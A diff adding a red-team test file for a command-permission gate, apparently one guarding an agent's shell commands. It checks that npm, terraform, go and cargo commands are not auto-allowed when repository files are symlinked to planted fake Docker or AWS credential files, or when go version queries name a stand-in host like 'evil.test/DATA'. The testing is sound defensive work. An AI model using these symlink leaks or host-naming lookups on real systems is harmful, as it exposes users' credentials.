@@ -1,0 +1,204 @@
+// Red-team cases (area: toolchains) for project files a tool reads by name from the working tree —
+// npm's package.json / lock files / node_modules links, terraform's .terraform/environment — and for
+// lookups that reach a host the command names (go list's version queries). Proved on the compiled
+// binary in real temporary git repositories with real hostile files; "allow" can only come from the
+// fast path. Each block names the hole; the controls beside them keep the rule from refusing everything.
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { dirname, join } from "node:path";
+import { type BinaryVerdict, binaryVerdicts, ensureBinary, isolatedHome } from "../support/fastpath-binary.ts";
+import { git } from "../support/git.ts";
+
+const work = realpathSync(mkdtempSync(join(tmpdir(), "ccgate-redteam-tcf-")));
+const { env, home } = isolatedHome();
+const secret = join(home, ".docker", "config.json");
+afterAll(() => rmSync(work, { recursive: true, force: true }));
+beforeAll(() => {
+  ensureBinary();
+  put(secret, '{"auths":{"registry.test":{"auth":"c2VjcmV0"}}}\n');
+  put(join(home, ".aws", "credentials"), "[default]\naws_secret_access_key = SECRET\n");
+});
+
+function put(path: string, text: string): void {
+  mkdirSync(dirname(path), { recursive: true });
+  writeFileSync(path, text);
+}
+
+function link(target: string, path: string): void {
+  mkdirSync(dirname(path), { recursive: true });
+  symlinkSync(target, path);
+}
+
+/** A git repository at `work/<name>/repo` with `files` written (the parent directory is outside it). */
+function repo(name: string, files: Record<string, string> = {}): string {
+  const dir = join(work, name, "repo");
+  mkdirSync(dir, { recursive: true });
+  git(dir, "init", "-q", "-b", "feature/x");
+  put(join(dir, "README.md"), "# r\n");
+  for (const [p, t] of Object.entries(files)) put(join(dir, p), t);
+  return dir;
+}
+
+async function expectVerdicts(dir: string, cases: Record<string, BinaryVerdict>): Promise<void> {
+  const got = await binaryVerdicts(Object.keys(cases), dir, env);
+  const wrong = Object.entries(cases)
+    .filter(([c, v]) => got.get(c) !== v)
+    .map(([c, v]) => `${c}: want ${v}, got ${got.get(c)}`);
+  expect(wrong).toEqual([]);
+}
+
+const PKG = '{"name":"x","version":"1.0.0","scripts":{"build":"echo hi"}}\n';
+const READING = ["npm pkg get", "npm pkg get name", "npm run", "npm ls", "npm ls --depth=0", "npm view", "npm fund"];
+const READING_ALL = [...READING, "npm query '*'", "npm sbom", "npm explain x", "npm version", "npm audit"];
+const NOT_READING: Record<string, BinaryVerdict> = {
+  "npm --version": "allow",
+  "npm help ls": "allow",
+  "npm config get color": "allow",
+  "npm prefix": "allow",
+};
+const all = (cmds: string[], v: BinaryVerdict): Record<string, BinaryVerdict> =>
+  Object.fromEntries(cmds.map((c) => [c, v]));
+
+describe("npm prints package files it opens by name", () => {
+  test("a package.json symlinked to a credential file (npm pkg get prints it whole)", async () => {
+    const dir = repo("npm-pkg-link");
+    link(secret, join(dir, "package.json"));
+    await expectVerdicts(dir, { ...all(READING_ALL, "fallthrough"), ...NOT_READING });
+  });
+
+  test("a symlinked lock file, also in a subdirectory the command cd's into", async () => {
+    const dir = repo("npm-lock-link", { "package.json": PKG, "sub/package.json": PKG });
+    link(secret, join(dir, "package-lock.json"));
+    link(secret, join(dir, "sub", "npm-shrinkwrap.json"));
+    await expectVerdicts(dir, { "npm ls": "fallthrough", "cd sub && npm ls": "fallthrough", ...NOT_READING });
+  });
+
+  test("a package.json in node_modules symlinked out (npm query prints every package.json)", async () => {
+    const dir = repo("npm-dep-link", { "package.json": PKG });
+    link(secret, join(dir, "node_modules", "x", "package.json"));
+    link(secret, join(dir, "node_modules", ".package-lock.json"));
+    await expectVerdicts(dir, all(READING_ALL, "fallthrough"));
+  });
+
+  test("a linked package (a symlink in node_modules) pointing out of the repository or into .git", async () => {
+    const out = repo("npm-linked-out", { "package.json": PKG });
+    link(join(home, ".docker"), join(out, "node_modules", "x"));
+    const scoped = repo("npm-linked-scoped", { "package.json": PKG });
+    link("../../../../outside", join(scoped, "node_modules", "@s", "y"));
+    put(join(work, "npm-linked-scoped", "outside", "package.json"), PKG);
+    const inGit = repo("npm-linked-git", { "package.json": PKG });
+    link("../.git", join(inGit, "node_modules", "g"));
+    const whole = repo("npm-linked-modules", { "package.json": PKG });
+    link(join(work, "npm-linked-scoped"), join(whole, "node_modules"));
+    for (const dir of [out, scoped, inGit, whole])
+      await expectVerdicts(dir, all(["npm ls", "npm query '*'"], "fallthrough"));
+  });
+
+  test("workspaces that leave the repository", async () => {
+    for (const [name, ws] of [
+      ["npm-ws-up", '["../outside"]'],
+      ["npm-ws-abs", '["/etc"]'],
+      ["npm-ws-obj", '{"packages":["pk/../../x"]}'],
+    ] as const) {
+      const dir = repo(name, { "package.json": `{"name":"a","workspaces":${ws}}\n` });
+      await expectVerdicts(dir, all(["npm ls", "npm query '*'", "npm pkg get"], "fallthrough"));
+    }
+  });
+
+  test("no package.json in the repository: npm takes the one above it", async () => {
+    const dir = repo("npm-above", { "sub/x.txt": "x\n" });
+    put(join(work, "npm-above", "package.json"), PKG);
+    await expectVerdicts(dir, {
+      "npm pkg get": "fallthrough",
+      "cd sub && npm ls": "fallthrough",
+      ...NOT_READING,
+    });
+  });
+
+  test("controls: plain package files, workspaces and in-repository links stay provable", async () => {
+    const dir = repo("npm-plain", {
+      "package.json": '{"name":"a","version":"1.0.0","workspaces":["pk/*"]}\n',
+      "package-lock.json": "{}\n",
+      "pk/b/package.json": '{"name":"b"}\n',
+      "node_modules/c/package.json": '{"name":"c"}\n',
+    });
+    link("../pk/b", join(dir, "node_modules", "b"));
+    // the parent has a package.json, but the repository's own is found first
+    put(join(work, "npm-plain", "package.json"), PKG);
+    await expectVerdicts(dir, {
+      ...all(READING, "allow"),
+      "npm query '*'": "allow",
+      "cd pk/b && npm ls": "allow",
+      ...NOT_READING,
+    });
+  });
+});
+
+describe("terraform workspace show prints .terraform/environment as it is", () => {
+  test("a symlinked environment file or .terraform directory, here or under -chdir", async () => {
+    const dir = repo("tf-ws", { "d/.terraform/environment": "dev\n", "fifo/.terraform/x": "" });
+    link(join(home, ".aws", "credentials"), join(dir, ".terraform", "environment"));
+    link(join(home, ".aws", "credentials"), join(dir, "sub", ".terraform", "environment"));
+    link(join(home, ".aws"), join(dir, "e", ".terraform"));
+    link("/dev/zero", join(dir, "z", ".terraform", "environment"));
+    await expectVerdicts(dir, {
+      "terraform workspace show": "fallthrough",
+      "terraform -chdir=sub workspace show": "fallthrough",
+      "terraform -chdir=e workspace show": "fallthrough",
+      "terraform -chdir=z workspace show": "fallthrough",
+      // a cd may fail: the repository root's file is read then
+      "cd d && terraform workspace show": "fallthrough",
+      // control: a plain file of the repository
+      "terraform -chdir=d workspace show": "allow",
+      "terraform -chdir=fifo workspace show": "allow",
+      "terraform version": "allow",
+    });
+  });
+
+  test("control: no .terraform at all", async () => {
+    const dir = repo("tf-ws-none", { "main.tf": "" });
+    await expectVerdicts(dir, { "terraform workspace show": "allow", "terraform workspace show -help": "allow" });
+  });
+});
+
+describe("go list / go mod why: version queries reach a host the command names", () => {
+  test("-versions, -u, -retracted and path@version words fall through", async () => {
+    const dir = repo("go-query", { "go.mod": "module x\n\ngo 1.21\n", "main.go": "package main\n" });
+    await expectVerdicts(dir, {
+      "go list -m -versions evil.test/DATA": "fallthrough",
+      "go list -m -versions=true evil.test/DATA": "fallthrough",
+      "go list -m -u all": "fallthrough",
+      "go list -m -retracted evil.test/x": "fallthrough",
+      "go list evil.test/DATA@latest": "fallthrough",
+      "go list -m evil.test/x@v1.0.0": "fallthrough",
+      "go list -m -json evil.test/x@master": "fallthrough",
+      "go mod why evil.test/x@v1": "fallthrough",
+      "go list -m -reuse old.json all": "fallthrough",
+      // controls: the build list and packages are read locally
+      "go list -m all": "allow",
+      "go list ./...": "allow",
+      "go list -json -deps ./...": "allow",
+      "go mod why -m golang.org/x/text": "allow",
+      "go list -m -json all": "allow",
+    });
+  });
+});
+
+describe("cargo help X runs the external cargo-X --help", () => {
+  test("a name that is not a builtin, or a builtin a repository [alias] maps to one", async () => {
+    const plain = repo("cargo-help", { "Cargo.toml": '[package]\nname = "x"\nversion = "0.1.0"\n' });
+    await expectVerdicts(plain, {
+      "cargo help foo": "fallthrough",
+      "cargo help clippy": "fallthrough",
+      "cargo help b": "fallthrough",
+      // controls
+      "cargo help": "allow",
+      "cargo help build": "allow",
+      "cargo help tree": "allow",
+      "cargo build --help": "allow",
+    });
+    const aliased = repo("cargo-help-alias", { ".cargo/config.toml": '[alias]\nbuild = "zzz"\n' });
+    await expectVerdicts(aliased, { "cargo help build": "fallthrough", "cargo help": "allow" });
+  });
+});
